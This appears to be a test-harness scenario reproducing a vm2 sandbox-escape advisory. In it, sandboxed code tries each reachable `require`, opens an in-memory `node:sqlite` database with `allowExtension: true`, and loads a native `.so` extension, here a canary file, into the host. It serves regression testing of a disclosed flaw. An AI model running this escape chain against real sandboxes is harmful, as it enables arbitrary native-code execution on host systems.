// Source: vm2 advisory GHSA-6w8r-xxw2-g3hx (test/ghsa/GHSA-6w8r-xxw2-g3hx/ in vm2's repository; fixed after vm2 3.11.2, by 3.12.2): `node:sqlite` with `allowExtension: true` loaded a native SQLite extension into the host (and `node:node:sqlite` resolved).
// The chain below follows the advisory's repro.js, or vm2's lib/ comment for it where the repro was not read.
// NodeVM only: the advisory needs NodeVM's `require`. A scenario runs in a plain vm2 VM with no
// `require`, `module` or `process`, so the PoC first looks for every way to a `require` the public
// PoCs use (`__wr.eachRequire`), then runs the advisory's chain with whatever it found.
// Tried: new DatabaseSync(':memory:', {allowExtension: true}).loadExtension(lib).
const out = {};
await __wr.eachRequire(out, async (req, label) => {
  try {
    const { DatabaseSync } = req('node:sqlite'); new DatabaseSync(':memory:', { allowExtension: true }).loadExtension(query.canaryFile + '.so');
  } catch (e) { out[label + 'Chain'] = String(e && e.message).slice(0, 60); }
});
return out;
